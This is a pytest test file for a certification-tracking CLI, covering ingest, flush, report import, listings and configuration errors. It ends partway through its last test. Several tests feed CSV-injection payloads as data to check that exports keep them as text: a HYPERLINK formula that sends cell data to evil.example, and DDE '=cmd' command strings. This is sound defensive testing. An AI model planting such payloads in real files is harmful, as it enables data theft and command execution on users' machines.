"""The tracker through the command line: `accrochage --config PATH COMMAND`.

The CLI builds the core with the system clock, so events are delivered a few days before the
real today (Europe/Paris).
"""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import re
import subprocess
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from accrochage.cli import main
from accrochage.models.deadline import SystemClock, paris_today
from accrochage.state import queries
from tests.factories import revoked_event
from tests.test_tracker import (
    NO_HOLDER,
    NS,
    SCHEMA_1_1_2,
    assert_official_valid,
    event,
    file_rejected_report,
    ids_in_files,
    passages,
    processed_report,
    write_config,
    xml_files,
)

NS_XSI = "http://www.w3.org/2001/XMLSchema-instance"
REAL_TODAY = paris_today(SystemClock())
RECENT = (REAL_TODAY - timedelta(days=10)).isoformat()
CONTRACT_KEYS = {
    "certifier",
    "record_id",
    "status",
    "delivered_on",
    "deadline",
    "days_left",
    "batch_id",
    "errors",
    "warnings",
    "correction_pending",
    "revocation_pending",
    "cdc_message",
    "cdc_reason",
    "suppression_rejected",
    "identity_procedure",
    "correction_request",
}
"""CONTRACT §1 and its v2 part (§8): `cdc_message`, `cdc_reason`, `suppression_rejected`,
`identity_procedure` and `correction_request` (§9) on every record."""
RECORD_KEYS = CONTRACT_KEYS | {"cdc_held_as", "correction_errors"}
"""CONTRACT's keys ("at least") and the README's: `cdc_held_as`, the CDC's idTechnique for a
record it holds under another one; `correction_errors`, those of its stored correction."""


def recent(record_id: str, **overrides: Any) -> dict[str, Any]:
    overrides.setdefault("delivered_on", RECENT)
    return event(record_id, **overrides)


def run(config: Path, *args: str, code: int | None = 0) -> Result:
    result = CliRunner().invoke(main, ["--config", str(config), *args], catch_exceptions=False)
    if code is not None:
        assert result.exit_code == code, (result.stdout, result.stderr)
    return result


def outstanding_json(config: Path, *args: str) -> list[dict[str, Any]]:
    rows = json.loads(run(config, "outstanding", "--format", "json", *args).stdout)
    assert isinstance(rows, list)
    return rows


def problem_line(out: str, source: Path, line: int, record_id: str, field: str) -> str:
    """The summary's line for one problem: `file:line record_id field: message`."""
    pattern = (
        rf"^\s*{re.escape(f'{source}:{line}')} {re.escape(record_id)}:? {re.escape(field)}: (.+)$"
    )
    found = re.search(pattern, out, re.MULTILINE)
    assert found, (pattern, out)
    return found.group(1)


def write_jsonl(path: Path, lines: list[dict[str, Any] | str]) -> Path:
    path.write_text(
        "".join((line if isinstance(line, str) else json.dumps(line)) + "\n" for line in lines),
        encoding="utf-8",
    )
    return path


@pytest.fixture()
def config(tmp_path: Path) -> Path:
    return write_config(tmp_path)


def outbox(config: Path) -> Path:
    return config.parent / "var" / "outbox"


# --- ingest ---------------------------------------------------------------------------------


def test_ingest_counts_refused_events_apart_from_invalid_records(
    config: Path, tmp_path: Path
) -> None:
    """An event applied to no record (a record id of another certifier, a revocation of an
    unknown record) is refused into the unusable log: never told as an invalid record."""
    run(config, "ingest", str(write_jsonl(tmp_path / "a.jsonl", [recent("RF-1")])))
    elsewhere = recent("RF-1", certifier="school")
    source = write_jsonl(
        tmp_path / "b.jsonl", [elsewhere, revoked_event(record_id="RF-NEVER"), recent("RF-2")]
    )
    out = run(config, "ingest", str(source)).stdout
    assert "3 events read" in out
    assert re.search(r"accepted: 1\b", out)
    assert re.search(r"invalid:\s+0\b", out)
    assert re.search(r"refused:\s+2\b", out)
    assert re.search(r"unusable: 0\b", out)
    assert "already a record of certifier" in out and "no record RF-NEVER" in out
    assert {r["record_id"] for r in outstanding_json(config)} == {"RF-1", "RF-2"}


def test_ingest_jsonl_prints_the_summary(config: Path, tmp_path: Path) -> None:
    good = [recent(f"J-{i}") for i in range(3)]
    source = write_jsonl(
        tmp_path / "events.jsonl",
        [
            *good,
            recent("J-BAD", obtention="PAR_HASARD"),
            "",
            "{not json",
            good[0],  # a duplicate
        ],
    )
    result = run(config, "ingest", str(source))
    out = result.stdout
    assert "6 events read" in out
    assert re.search(r"accepted: 4\b", out)  # three created, one unchanged duplicate
    assert re.search(r"invalid:\s+1\b", out)
    assert re.search(r"unusable: 1\b", out)
    assert problem_line(out, source, 4, "J-BAD", "obtention")
    assert problem_line(out, source, 6, "-", "event").startswith("is not valid JSON")
    rows = {r["record_id"]: r for r in outstanding_json(config)}
    assert set(rows) == {"J-0", "J-1", "J-2", "J-BAD"}
    assert rows["J-BAD"]["status"] == "invalid"
    assert rows["J-BAD"]["errors"][0]["field"] == "obtention"
    # A second run of the same file changes nothing.
    again = run(config, "ingest", str(source)).stdout
    assert "(unchanged 5, unusable 1)" in again  # the invalid one is reported again


def test_an_event_s_problems_beyond_three_name_where_they_are_all(
    config: Path, tmp_path: Path
) -> None:
    """It said `accrochage show ID`, a placeholder to fill."""
    many = recent("J-MANY", obtention="PAR_HASARD", delivered_on="2026-13-45")
    many["holder"] |= {"sex": "X", "birth_date": "1990-02-30"}
    out = run(config, "ingest", str(write_jsonl(tmp_path / "many.jsonl", [many]))).stdout
    assert re.search(r"J-MANY .*\(\+\d+ more: accrochage show J-MANY\)$", out, re.MULTILINE), out


def test_ingest_csv_with_semicolons_bom_and_lists(tmp_path: Path, official_xsd: Path) -> None:
    config = write_config(tmp_path, schema=SCHEMA_1_1_2)  # checked against the official XSD
    header = [
        "record_id",
        "event_id",
        "certifier",
        "certification.type",
        "certification.code",
        "delivered_on",
        "obtention",
        "score",
        "mention",
        "holder.birth_name",
        "holder.usage_name",
        "holder.first_names",
        "holder.birth_date",
        "holder.sex",
        "holder.birth_place.postal_code",
        "holder.birth_place.city",
        "holder.birth_place.country",
    ]
    rows = [
        f"C-1;e-1;pix;RS;RS5875;{RECENT};PAR_SCORING;324;;Lefèvre;;Marie|Léa|Zoé;1990-02-03;F;"
        "75002;PARIS;FRANCE",
        f"C-2;e-2;school;RNCP;RNCP35726;{RECENT};PAR_ADMISSION;;MENTION_BIEN;D'Amico;Martin;Jean;"
        "1985-11-30;M;;;",
        f"C-3;e-3;pix;RS;RS5875;{RECENT};PAR_SCORING;12;;Haba;;Bart;1993-05-23;X;;;",
    ]
    text = "\ufeff" + "\r\n".join([";".join(header), *rows]) + "\r\n"
    source = tmp_path / "events.csv"
    source.write_bytes(text.encode("utf-8"))
    out = run(config, "ingest", str(source)).stdout
    assert "3 events read" in out
    assert re.search(r"accepted: 2\b", out)
    assert re.search(r"invalid:\s+1\b", out)
    assert "'M' or 'F'" in problem_line(out, source, 4, "C-3", "holder.sex")

    run(config, "flush", "--force")
    found: dict[str, Any] = {}
    for path in xml_files(outbox(config)):
        found.update(passages(path))
    assert set(found) == {"C-1", "C-2"}
    first = found["C-1"]
    names = [first.findtext(f".//cpf:prenom{i}", namespaces=NS) for i in (1, 2, 3)]
    assert names == ["Marie", "Léa", "Zoé"]
    assert first.findtext(".//cpf:nomNaissance", namespaces=NS) == "Lefèvre"
    usage = first.find(".//cpf:nomUsage", namespaces=NS)
    assert usage is not None and usage.get(f"{{{NS_XSI}}}nil") == "true"  # empty cell: absent
    second = found["C-2"]
    assert second.findtext(".//cpf:nomUsage", namespaces=NS) == "Martin"
    assert second.findtext("cpf:mentionValidee", namespaces=NS) == "MENTION_BIEN"
    assert second.find(".//cpf:codePostal", namespaces=NS).get(f"{{{NS_XSI}}}nil") == "true"
    assert_official_valid(xml_files(outbox(config)), official_xsd)


def test_ingest_of_a_missing_file_fails(config: Path, tmp_path: Path) -> None:
    result = run(config, "ingest", str(tmp_path / "nowhere.jsonl"), code=None)
    assert result.exit_code != 0
    assert "nowhere.jsonl" in result.stderr


PYTHON_CLI = (sys.executable, "-c", "from accrochage.cli import main; main()")


def test_ingest_from_stdin(config: Path) -> None:
    """`-` reads the real standard input (a pipe), JSONL told apart by its first bytes."""
    data = json.dumps(recent("STDIN-1")) + "\n" + json.dumps(recent("STDIN-2")) + "\n"
    done = subprocess.run(
        [*PYTHON_CLI, "--config", str(config), "ingest", "-"],
        input=data.encode(),
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode()
    assert "2 events read (created 2)" in done.stdout.decode()
    assert [r["record_id"] for r in outstanding_json(config)] == ["STDIN-1", "STDIN-2"]


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_a_listing_its_reader_stops_reading_ends_without_a_traceback(
    config: Path, tmp_path: Path, fmt: str
) -> None:
    """`records | head`: the listing stops where its reader left, with nothing on stderr.
    The rows' snapshot was ended by the garbage collector after the state was closed:
    "Exception ignored ... Cannot operate on a closed database", a traceback under it."""
    source = write_jsonl(tmp_path / "many.jsonl", [recent(f"PIPE-{n:03}") for n in range(80)])
    run(config, "ingest", str(source))
    readable, writable = os.pipe()
    fcntl.fcntl(writable, fcntl.F_SETPIPE_SZ, 4096)  # a listing of 80 records fills it
    with subprocess.Popen(
        [*PYTHON_CLI, "--config", str(config), "records", "--format", fmt],
        stdout=writable,
        stderr=subprocess.PIPE,
    ) as listing:
        os.close(writable)
        first = os.read(readable, 200)  # the listing is under way, its rows being read
        os.close(readable)
        _, stderr = listing.communicate(timeout=60)
    assert first
    assert stderr.decode() == ""


@pytest.mark.parametrize("buffered", [True, False], ids=["buffered", "unbuffered"])
@pytest.mark.parametrize(
    "command", [("summary", "--format", "json"), ("records",), ("flush", "--force")]
)
def test_an_output_the_disk_refuses_is_one_line_without_a_traceback(
    config: Path, command: tuple[str, ...], buffered: bool
) -> None:
    """`accrochage records > report.txt` on a full disk: one line saying so, exit 1, not
    Python's traceback of click's write. Buffered (a redirection, as in production), the
    refusal came at the interpreter's exit: "Exception ignored", exit 120."""
    run(config, "ingest", str(write_jsonl(config.parent / "one.jsonl", [recent("FULL-1")])))
    env = {k: v for k, v in os.environ.items() if k != "PYTHONUNBUFFERED"}
    if not buffered:
        env["PYTHONUNBUFFERED"] = "1"
    with open("/dev/full", "w", encoding="utf-8") as full:
        done = subprocess.run(
            [*PYTHON_CLI, "--config", str(config), *command],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
            check=False,
            env=env,
        )
    assert done.returncode == 1
    assert done.stderr == (
        "error: the output could not be written (No space left on device): free space where "
        "it goes, or send it elsewhere; what the command changed in the state stays changed "
        "(a listing or a report: run it again)\n"
    )


# --- flush ----------------------------------------------------------------------------------


def test_flush_writes_then_nothing_is_due(config: Path, tmp_path: Path) -> None:
    source = write_jsonl(
        tmp_path / "e.jsonl", [recent("F-1"), recent("F-2"), recent("F-3", certifier="school")]
    )
    run(config, "ingest", str(source))
    # 15m max_delay, far deadlines: the operator is told why, and how to cut them now
    waiting = run(config, "flush").stdout.splitlines()
    assert waiting[0] == "nothing due"
    assert re.match(r"  pix: 2 pending record\(s\), due at \S+ \(batching.max_delay\)", waiting[1])
    assert re.match(r"  school: 1 pending record\(s\), due at ", waiting[2])
    assert waiting[3] == "  `accrochage flush --force` cuts them now"
    out = run(config, "flush", "--force").stdout
    wrote = [line for line in out.splitlines() if line.startswith("wrote ")]
    assert len(wrote) == 2
    for line in wrote:
        path = Path(line.split()[1])
        assert path.is_file() and path.parent.parent == outbox(config)
    assert run(config, "flush").stdout.strip() == "nothing due"
    assert ids_in_files(outbox(config)) == {"F-1": 1, "F-2": 1, "F-3": 1}


def test_flush_exits_1_when_the_outbox_cannot_be_written(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    config = write_config(tmp_path, paths={"outbox": blocker / "outbox"})
    run(config, "ingest", str(write_jsonl(tmp_path / "e.jsonl", [recent("W-1")])))
    result = run(config, "flush", "--force", code=1)
    assert "FAILED" in result.stderr
    assert "wrote" not in result.stdout
    rows = outstanding_json(config)
    assert [(r["record_id"], r["status"]) for r in rows] == [("W-1", "batched")]
    # The operator fixes the path: the failed batch is written by the next flush.
    fixed = write_config(tmp_path, paths={"outbox": tmp_path / "outbox"})
    out = run(fixed, "flush").stdout
    assert out.startswith("wrote ")
    assert ids_in_files(tmp_path / "outbox") == {"W-1": 1}


# --- outstanding ----------------------------------------------------------------------------


@pytest.fixture()
def loaded(config: Path, tmp_path: Path) -> Path:
    late = (REAL_TODAY - timedelta(days=100)).isoformat()
    soon = (REAL_TODAY - timedelta(days=85)).isoformat()
    events = [
        recent("Q-FAR"),
        recent("Q-LATE", delivered_on=late),
        recent("Q-SOON", delivered_on=soon),
        recent("Q-INV", certifier="school", holder=None),
    ]
    run(config, "ingest", str(write_jsonl(tmp_path / "q.jsonl", events)))
    return config


def test_outstanding_json_has_the_contract_keys_and_the_documented_one(loaded: Path) -> None:
    rows = outstanding_json(loaded)
    assert {r["record_id"] for r in rows} == {"Q-FAR", "Q-LATE", "Q-SOON", "Q-INV"}
    for row in rows:
        assert set(row) == RECORD_KEYS
        assert isinstance(row["errors"], list) and isinstance(row["warnings"], list)
        assert isinstance(row["correction_pending"], bool)
    assert set(queries.OUTSTANDING_FIELDS) == RECORD_KEYS
    days = [r["days_left"] for r in rows]
    assert days == sorted(days)
    assert rows[0]["record_id"] == "Q-LATE" and rows[0]["days_left"] < 0


def test_outstanding_filters(loaded: Path) -> None:
    assert [r["record_id"] for r in outstanding_json(loaded, "--overdue")] == ["Q-LATE"]
    due = [r["record_id"] for r in outstanding_json(loaded, "--due-within", "14")]
    assert due == ["Q-LATE", "Q-SOON"]
    assert [r["record_id"] for r in outstanding_json(loaded, "--certifier", "school")] == ["Q-INV"]
    assert [r["record_id"] for r in outstanding_json(loaded, "--status", "invalid")] == ["Q-INV"]
    today = REAL_TODAY.isoformat()  # a run crossing midnight in Paris compares one day
    base = {r["record_id"]: r["days_left"] for r in outstanding_json(loaded, "--as-of", today)}
    later = (REAL_TODAY + timedelta(days=30)).isoformat()
    shifted = {r["record_id"]: r["days_left"] for r in outstanding_json(loaded, "--as-of", later)}
    assert {k: v - 30 for k, v in base.items()} == shifted
    overdue_later = [
        r["record_id"] for r in outstanding_json(loaded, "--as-of", later, "--overdue")
    ]
    assert overdue_later == ["Q-LATE", "Q-SOON"]
    bad = run(loaded, "outstanding", "--status", "lost", code=None)
    assert bad.exit_code == 2
    by_id = [r["record_id"] for r in outstanding_json(loaded, "--order", "record_id")]
    assert by_id == ["Q-FAR", "Q-INV", "Q-LATE", "Q-SOON"]
    assert run(loaded, "records", "--order", "newest", code=2).exit_code == 2


@pytest.mark.parametrize(
    ("args", "named"),
    [
        (("outstanding", "--due-within", "999999999"), "--due-within"),
        (("outstanding", "--as-of", "9999-12-25", "--due-within", "10"), "--as-of"),
        (("records", "--as-of", "2026-02-30"), "--as-of"),
        (("summary", "--as-of", "9999-12-31"), "--as-of"),
        (("correction-request", "list", "--as-of", "1899-12-31"), "--as-of"),
    ],
)
def test_days_and_windows_out_of_range_are_usage_errors(
    loaded: Path, args: tuple[str, ...], named: str
) -> None:
    """Bounded as the HTTP API bounds them: a usage error naming the option, not an overflow
    further on (a traceback, exit 1)."""
    refused = run(loaded, *args, code=2)
    assert f"Invalid value for '{named}'" in refused.stderr
    assert "Traceback" not in refused.stderr
    widest = run(loaded, "outstanding", "--as-of", "2200-12-31", "--due-within", "100000")
    assert "outstanding record(s) as of 2200-12-31" in widest.stdout


def test_a_csv_number_that_is_no_integer_fails_its_own_row(config: Path, tmp_path: Path) -> None:
    """`"²".isdigit()` is true and `int("²")` fails: the cell crashed ingest with a traceback,
    the rows after it never read. It is now a field error of its own row."""
    header = "record_id;event_id;certifier;certification.type;certification.code;delivered_on;"
    header += "obtention;holder.birth_name;holder.first_names;holder.birth_date;holder.sex;"
    header += "digital_level.general_score"
    person = f"{RECENT};PAR_ADMISSION;Haba;Bart;1993-05-23;M"
    lines = [header, f"N-1;e-1;pix;RS;RS5875;{person};²", f"N-2;e-2;pix;RS;RS5875;{person};"]
    lines.append(f"N-3;e-3;pix;RS;RS5875;{person};{'9' * 5000}")
    source = tmp_path / "events.csv"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = run(config, "ingest", str(source), code=None)
    assert "Traceback" not in out.stderr and "3 events read" in out.stdout, out.stderr
    assert problem_line(out.stdout, source, 2, "N-1", "digital_level.general_score")
    assert problem_line(out.stdout, source, 4, "N-3", "digital_level.general_score")
    assert {r["record_id"] for r in outstanding_json(config)} == {"N-1", "N-2", "N-3"}


def test_csv_keeps_a_formula_from_outside_as_text(config: Path, tmp_path: Path) -> None:
    """Record ids come from the platforms: a cell a spreadsheet would run is kept as text."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    run(config, "ingest", str(write_jsonl(tmp_path / "f.jsonl", [recent(formula)])))
    rows = list(csv.DictReader(io.StringIO(run(config, "records", "--format", "csv").stdout)))
    assert [r["record_id"] for r in rows] == ["'" + formula]
    assert rows[0]["days_left"].lstrip("-").isdigit(), "numbers are left as they are"
    unknown_field = dict(recent("F-2"), **{'=HYPERLINK("http://evil.example/","x")': 1})
    run(config, "ingest", str(write_jsonl(tmp_path / "g.jsonl", [unknown_field])), code=None)
    rows = list(csv.DictReader(io.StringIO(run(config, "records", "--format", "csv").stdout)))
    (invalid,) = [r for r in rows if r["record_id"] == "F-2"]
    assert invalid["errors"].startswith("'=HYPERLINK("), invalid["errors"]


def test_outstanding_csv_and_table(loaded: Path) -> None:
    text = run(loaded, "outstanding", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["record_id"] for r in rows} == {"Q-FAR", "Q-LATE", "Q-SOON", "Q-INV"}
    assert set(rows[0]) == RECORD_KEYS
    invalid = next(r for r in rows if r["record_id"] == "Q-INV")
    assert invalid["errors"].startswith("holder: "), "errors as `field: message` for a sheet"
    assert {r["correction_pending"] for r in rows} == {"false"}
    assert {r["cdc_message"] for r in rows} == {""}
    table = run(loaded, "outstanding").stdout
    assert "Q-SOON" in table and "4 outstanding record(s)" in table
    assert "holder: " in next(line for line in table.splitlines() if "Q-INV" in line), (
        "the table shows the first error itself, not a count"
    )


def test_csv_keeps_a_formula_after_a_semicolon_as_text(config: Path, tmp_path: Path) -> None:
    """A French spreadsheet opens a CSV splitting on `;`: a record id `X;=2+3;`, or an unknown
    field named so, gave the cell `=2+3` (or a DDE payload) though the comma cell was escaped."""
    run(config, "ingest", str(write_jsonl(tmp_path / "s.jsonl", [recent("X;=2+3;")])))
    unknown_field = dict(recent("S-2"), **{";=cmd|'/c calc'!A0;": 1})
    run(config, "ingest", str(write_jsonl(tmp_path / "u.jsonl", [unknown_field])), code=None)
    text = run(config, "records", "--format", "csv").stdout
    cells = [cell for line in text.splitlines() for cell in line.split(";")]
    assert not [c for c in cells if c.lstrip(' "').startswith(("=", "+", "-", "@"))], text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert "X;'=2+3;" in {r["record_id"] for r in rows}
    assert ";'=cmd|'/c calc'!A0;" in next(r["errors"] for r in rows if r["record_id"] == "S-2")


def test_csv_keeps_a_formula_after_leading_spaces_as_text(config: Path, tmp_path: Path) -> None:
    """A line a platform sent with spaces before a formula (`  =cmd|...`, not JSON) is kept
    whole as the unusable event's raw input: its cell was left as it came, though the same
    formula after `; ` was kept as text."""
    payload = "  =cmd|'/c calc'!A0"
    run(config, "ingest", str(write_jsonl(tmp_path / "w.jsonl", [payload])))
    for fmt, separator in (("csv", ","), ("excel", ";")):
        text = run(config, "unusable", "--format", fmt).stdout.lstrip("\ufeff")
        (row,) = csv.DictReader(io.StringIO(text), delimiter=separator)
        assert row["raw"] == "'" + payload, (fmt, row["raw"])


def test_the_excel_format_opens_in_a_french_spreadsheet(config: Path, tmp_path: Path) -> None:
    """`csv` is comma-separated UTF-8 without a BOM: a French spreadsheet put every row in
    column A and read "critères" as "critÃ¨res"."""
    run(config, "ingest", str(write_jsonl(tmp_path / "e.jsonl", [recent("É-1"), recent("=2+3")])))
    raw = run(config, "records", "--format", "excel").stdout_bytes
    assert raw.startswith("\ufeff".encode()), "UTF-8 told by its BOM"
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("certifier;record_id;status;")
    assert "\r\n" in text
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert {r["record_id"] for r in rows} == {"É-1", "'=2+3"}, "formulas kept as text"


def test_the_excel_format_keeps_a_formula_after_a_comma_as_text(
    config: Path, tmp_path: Path
) -> None:
    """A spreadsheet set to English opens the `excel` format splitting on `,`, which that
    format leaves unquoted: a record id `X,=2+3,` gave the cell `=2+3` (or a DDE payload)."""
    run(config, "ingest", str(write_jsonl(tmp_path / "c.jsonl", [recent("X,=2+3,")])))
    unknown_field = dict(recent("C-2"), **{",=cmd|'/c calc'!A0,": 1})
    run(config, "ingest", str(write_jsonl(tmp_path / "u.jsonl", [unknown_field])), code=None)
    text = run(config, "records", "--format", "excel").stdout_bytes.decode("utf-8-sig")
    cells = [cell for line in text.splitlines() for cell in line.split(",")]
    assert not [c for c in cells if c.lstrip(' "').startswith(("=", "+", "-", "@"))], text
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert "X,'=2+3," in {r["record_id"] for r in rows}
    assert ",'=cmd|'/c calc'!A0," in next(r["errors"] for r in rows if r["record_id"] == "C-2")


# --- deposited, import-report, retry ---------------------------------------------------------


def test_a_report_that_is_no_xml_is_named_once_in_one_line(config: Path, tmp_path: Path) -> None:
    """It said `error: x.xml: x.xml: ...` and passed on lxml's `(<string>, line 1)`."""
    run(config, "ingest", str(write_jsonl(tmp_path / "e.jsonl", [recent("NX-1")])))
    bad = tmp_path / "accuse.xml"
    bad.write_text("not xml", encoding="utf-8")
    said = run(config, "import-report", str(bad), code=1).stderr.strip()
    assert said.startswith(f"error: {bad}: report is not well-formed XML ("), said
    assert said.count("accuse.xml") == 1 and "<string>" not in said, said


def test_import_report_shows_twenty_rejections_of_a_kind_and_how_to_list_the_rest(
    config: Path, tmp_path: Path, shared_dir: Path
) -> None:
    """CONTRACT §8: the first 20 of each group, and how many more (with the command that
    lists them all)."""
    ids = [f"MANY-{n:02d}" for n in range(25)]
    run(config, "ingest", str(write_jsonl(tmp_path / "many.jsonl", [recent(i) for i in ids])))
    out = run(config, "flush", "--force").stdout
    path = Path(next(line for line in out.splitlines() if line.startswith("wrote ")).split()[1])
    report = tmp_path / "many-report.xml"
    report.write_bytes(
        processed_report(
            shared_dir, file_name=path.name, id_flux=None, ko=dict.fromkeys(ids, NO_HOLDER)
        )
    )
    out = run(config, "import-report", str(report)).stdout
    shown = [i for i in ids if f"    {i}: " in out]
    assert len(shown) == 20, out
    assert "rejected, identity_not_found (25)" in out
    assert (
        "    ... and 5 more: accrochage records --status rejected --reason identity_not_found"
        in out
    )
    listed = json.loads(
        run(
            config,
            "records",
            "--status",
            "rejected",
            "--reason",
            "identity_not_found",
            "--format",
            "json",
        ).stdout
    )
    assert sorted(r["record_id"] for r in listed) == ids


def test_deposited_import_report_and_retry(config: Path, tmp_path: Path, shared_dir: Path) -> None:
    ids = ["G-OK", "G-KO", "G-SILENT"]
    run(config, "ingest", str(write_jsonl(tmp_path / "g.jsonl", [recent(i) for i in ids])))
    out = run(config, "flush", "--force").stdout
    path = Path(next(line for line in out.splitlines() if line.startswith("wrote ")).split()[1])
    batch_id = next(iter(outstanding_json(config)))["batch_id"]
    assert batch_id in path.name

    assert "deposited (3 records)" in run(config, "deposited", batch_id).stdout
    assert {r["status"] for r in outstanding_json(config)} == {"deposited"}
    unknown = run(config, "deposited", "no-such-batch", code=1)
    assert "no batch has this id" in unknown.stderr

    report = tmp_path / "accuse.xml"
    report.write_bytes(
        processed_report(
            shared_dir,
            file_name=path.name,
            id_flux=None,
            ok=["G-OK"],
            ko={"G-KO": NO_HOLDER, "G-GHOST": NO_HOLDER},
        )
    )
    out = run(config, "import-report", str(report)).stdout
    assert f"accuse.xml: batch {batch_id}: 1 accepted, 1 rejected, 0 unchanged" in out
    assert "unknown idTechnique (1): G-GHOST" in out
    assert "not mentioned, status kept (1): G-SILENT" in out
    assert f"`accrochage retry --batch {batch_id}` sends them again" in out
    again = run(config, "import-report", str(report)).stdout
    assert "already imported" in again
    statuses = {r["record_id"]: r["status"] for r in outstanding_json(config)}
    assert statuses == {"G-KO": "rejected", "G-SILENT": "deposited"}
    # Said again on any later day, not only in import-report's output.
    summary = json.loads(run(config, "summary", "--format", "json").stdout)
    assert summary["left_out"] == [
        {"batch_id": batch_id, "certifier": "pix", "file_name": path.name, "records": 1}
    ]
    text = run(config, "summary").stdout
    assert "left out by CDC reports: 1 record(s)" in text and f"  {path.name}: 1" in text
    doctor = run(config, "doctor", code=1).stdout
    assert "1 record(s) in 1 reported file(s) were not mentioned" in doctor, doctor
    assert f"retry --batch {batch_id}" in doctor

    assert "only rejected" in run(config, "retry", "G-OK", code=1).stderr
    # The rejected one, and the one the report left out (sent again on the operator's word):
    # `retry --batch` said "nothing to do" for the second.
    out = run(config, "retry", "--batch", batch_id).stdout
    assert "G-KO: pending (was rejected)" in out and "G-SILENT: pending (was deposited)" in out
    (line,) = [row for row in run(config, "outstanding").stdout.splitlines() if "G-KO" in row]
    assert "to send again after CDC identity_not_found" in line, "not sent yet"
    out = run(config, "flush", "--force").stdout
    assert out.startswith("cut ") and "wrote " in out
    assert ids_in_files(outbox(config)) == {"G-OK": 1, "G-KO": 2, "G-SILENT": 2}
    assert json.loads(run(config, "summary", "--format", "json").stdout)["left_out"] == []
    # Its CDC message is the last report's: the table does not let it read as the new file's.
    (line,) = [row for row in run(config, "outstanding").stdout.splitlines() if "G-KO" in row]
    assert "sent again after CDC identity_not_found" in line, line


def test_import_of_a_whole_file_rejection(config: Path, tmp_path: Path, shared_dir: Path) -> None:
    run(config, "ingest", str(write_jsonl(tmp_path / "h.jsonl", [recent("H-1"), recent("H-2")])))
    out = run(config, "flush", "--force").stdout
    path = Path(next(line for line in out.splitlines() if line.startswith("wrote ")).split()[1])
    report = tmp_path / "rejet.xml"
    report.write_bytes(file_rejected_report(shared_dir, file_name=path.name))
    out = run(config, "import-report", str(report)).stdout
    assert "2 rejected" in out and "whole file rejected: XSD: " in out
    assert {r["status"] for r in outstanding_json(config)} == {"rejected"}
    missing = run(config, "import-report", str(tmp_path / "absent.xml"), code=1)
    assert "absent.xml" in missing.stderr and "cannot be read" in missing.stderr


def test_a_rejection_of_a_file_renamed_beyond_recognition_is_applied_to_the_batch_named(
    config: Path, tmp_path: Path, shared_dir: Path
) -> None:
    """A name that carries no batch id: the report is refused with the way out, which works
    (before, the records stayed deposited and nothing but SQL could settle them)."""
    run(config, "ingest", str(write_jsonl(tmp_path / "j.jsonl", [recent("J-1"), recent("J-2")])))
    out = run(config, "flush", "--force").stdout
    path = Path(next(line for line in out.splitlines() if line.startswith("wrote ")).split()[1])
    report = tmp_path / "rejet.xml"
    report.write_bytes(file_rejected_report(shared_dir, file_name="export-pix-lundi.xml"))
    refused = run(config, "import-report", str(report), code=1)
    assert refused.stderr.count("rejet.xml") == 1, refused.stderr
    assert "import-report FILE --batch" in refused.stderr, refused.stderr
    assert {r["status"] for r in outstanding_json(config)} == {"batched"}

    other = tmp_path / "other.xml"
    other.write_bytes(file_rejected_report(shared_dir, file_name=path.name))
    two = run(config, "import-report", str(report), str(other), "--batch", path.name, code=2)
    assert "give one FILE" in two.stderr
    wrong = run(config, "import-report", str(report), "--batch", "no-such-batch", code=1)
    assert "names no batch" in wrong.stderr

    done = run(config, "import-report", str(report), "--batch", path.name).stdout
    assert "2 rejected" in done and "whole file rejected: XSD: " in done
    assert f"matched by --batch {path.name}" in done and "the name carries" not in done
    assert {r["status"] for r in outstanding_json(config)} == {"rejected"}


def test_a_report_that_cannot_be_read_stops_no_other(
    config: Path, tmp_path: Path, shared_dir: Path
) -> None:
    run(config, "ingest", str(write_jsonl(tmp_path / "i.jsonl", [recent("I-1"), recent("I-2")])))
    out = run(config, "flush", "--force").stdout
    path = Path(next(line for line in out.splitlines() if line.startswith("wrote ")).split()[1])
    broken = tmp_path / "broken.xml"
    broken.write_bytes(b"<rapport><nomFichier>unterminated")
    report = tmp_path / "rejet.xml"
    report.write_bytes(file_rejected_report(shared_dir, file_name=path.name))
    missing = tmp_path / "not-downloaded.xml"
    # A line number of 5,000 digits raised Python's integer limit: a traceback, and the
    # reports after it were never applied.
    long_line = tmp_path / "long-line.xml"
    long_line.write_bytes(
        file_rejected_report(shared_dir, file_name=path.name).replace(
            b"<ligne>1</ligne>", b"<ligne>" + b"9" * 5000 + b"</ligne>"
        )
    )
    assert b"9" * 5000 in long_line.read_bytes()
    done = run(
        config, "import-report", str(missing), str(broken), str(long_line), str(report), code=1
    )
    assert "broken.xml" in done.stderr and "Traceback" not in done.stderr
    assert "not-downloaded.xml" in done.stderr and "cannot be read" in done.stderr
    assert "2 rejected" in done.stdout
    assert {r["status"] for r in outstanding_json(config)} == {"rejected"}


# --- configuration errors ------------------------------------------------------------------


def test_missing_configuration_file(tmp_path: Path) -> None:
    result = run(tmp_path / "absent.toml", "outstanding", code=2)
    assert "configuration error" in result.stderr
    assert "absent.toml" in result.stderr and "not found" in result.stderr
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    ("options", "named"),
    [
        ({"batching": {"max_records": 0}}, "batching.max_records"),
        ({"batching": {"max_delay": "soon"}}, "batching.max_delay"),
        ({"emitter_id": "03VML24"}, "emitter.id_client"),
        ({"api": {"bind": "0.0.0.0:8787"}}, "api.token"),
    ],
)
def test_wrong_setting_names_itself(tmp_path: Path, options: dict[str, Any], named: str) -> None:
    config = write_config(tmp_path, **options)
    result = run(config, "outstanding", code=2)
    assert "configuration error" in result.stderr
    assert named in result.stderr, result.stderr
    assert "Traceback" not in result.output


def test_unusable_lists_what_became_no_record_without_sql(config: Path, tmp_path: Path) -> None:
    """The unusable log was only readable over HTTP (`GET /unusable`): an operator of the
    CLI had SQL to read why an event became no record."""
    lines: list[dict[str, Any] | str] = [recent("U-OK"), "not json", {"record_id": 5}]
    lines.append(revoked_event(record_id="U-NONE"))
